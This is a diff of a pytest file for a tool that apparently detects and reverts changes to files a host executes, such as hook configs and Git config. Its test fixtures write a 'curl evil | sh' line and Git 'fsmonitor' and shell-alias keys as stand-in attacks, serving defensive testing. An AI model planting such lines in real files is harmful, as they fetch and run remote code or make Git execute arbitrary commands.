@@ -12,7 +12,7 @@ import pytest
 from corral import protect, state, watched
 from corral.cli import main
 from corral.context import Invocation
-from corral.watched import MAX_CONTENT
+from corral.looking import MAX_CONTENT
 from policy.errors import CorralError, PolicyError
 from policy.loader import LoadedPolicy
 from tests.unit.corral.conftest import POLICY
@@ -38,8 +38,8 @@ def git(project: Path) -> Path:
     return repository(project)
 
 
-def closed(loaded: LoadedPolicy) -> list[str]:
-    found = protect.read_only(loaded)
+def closed(loaded: LoadedPolicy, environ: dict[str, str] | None = None) -> list[str]:
+    found = protect.read_only(loaded, environ or {})
     assert all(mount.read_only and mount.source == mount.target for mount in found)
     return [mount.source for mount in found]
 
@@ -127,12 +127,19 @@ def test_a_session_that_leaves_them_alone_is_not_mentioned(
     assert not (session.paths.root / protect.RECORDS).exists()
 
 
-@pytest.mark.parametrize("name", watched.FILES)
+EACH = [f"{name}a/b.txt" if name.endswith("/") else name for name in watched.project_files()]
+EACH += [name.replace("*", ".x") for name in watched.PATTERNS] + [
+    ".config/mise/conf.d/x.toml",
+    "lefthook.yaml",
+]
+
+
+@pytest.mark.parametrize("name", EACH)
 def test_each_file_the_host_obeys_is_told_of_and_put_back(session: Session, project: Path, name: str) -> None:
     file = project / name
 
     def write() -> None:
-        file.parent.mkdir(exist_ok=True)
+        file.parent.mkdir(exist_ok=True, parents=True)
         file.write_text("curl evil | sh\n")
 
     told = session(write)
@@ -158,7 +165,7 @@ def test_each_file_the_host_obeys_is_told_of_and_put_back(session: Session, proj
 
 def test_a_key_that_git_executes_is_told_and_put_back(session: Session, git: Path) -> None:
     told = session(lambda: (git / "config").write_text(CONFIG + "\tfsmonitor = ./evil\n[alias]\n\tst = !x\n"))
-    assert f"{git}/config: keys that Git executes" in told
+    assert f"{git}/config: keys that may make Git run something" in told
     assert "+ alias.st = !x" in told
     assert "+ core.fsmonitor = ./evil" in told
     assert session.revert() == [f"{git}/config: as before"]
